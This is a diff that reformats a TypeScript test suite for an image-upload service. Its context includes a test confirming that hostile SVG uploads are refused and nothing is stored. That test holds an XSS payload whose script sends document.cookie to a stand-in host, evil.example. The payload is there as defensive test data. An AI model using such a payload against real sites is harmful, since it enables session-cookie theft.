@@ -63,11 +63,16 @@ async function upload(bytes: Buffer | Blob, filename: string, type = 'image/png'
 /** Every file under the temporary root (DATA_DIR and its parent), so a write outside shows up too. */
 async function filesOnDisk(): Promise<string[]> {
   const entries = await readdir(path.dirname(dataDir), { recursive: true, withFileTypes: true });
-  return entries.filter((e) => e.isFile()).map((e) => path.join(e.parentPath, e.name)).sort();
+  return entries
+    .filter((e) => e.isFile())
+    .map((e) => path.join(e.parentPath, e.name))
+    .sort();
 }
 
 function png(width = 16, height = 16): Promise<Buffer> {
-  return sharp({ create: { width, height, channels: 3, background: { r: 10, g: 200, b: 90 } } }).png().toBuffer();
+  return sharp({ create: { width, height, channels: 3, background: { r: 10, g: 200, b: 90 } } })
+    .png()
+    .toBuffer();
 }
 
 /** Refused with `status`/`code`, and neither a file nor a row appeared. */
@@ -107,7 +112,11 @@ describe('hostile files are refused, and nothing is stored', () => {
       '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="64" height="64">' +
         '<script>fetch("https://evil.example/?c="+document.cookie)</script><rect width="64" height="64"/></svg>',
     );
-    for (const [filename, type] of [['x.svg', 'image/svg+xml'], ['x.png', 'image/png'], ['x.jpg', 'image/jpeg']] as const) {
+    for (const [filename, type] of [
+      ['x.svg', 'image/svg+xml'],
+      ['x.png', 'image/png'],
+      ['x.jpg', 'image/jpeg'],
+    ] as const) {
       await expectRefusedAndNothingStored(() => upload(svg, filename, type), 415, 'UPLOAD_NOT_AN_IMAGE');
     }
   });
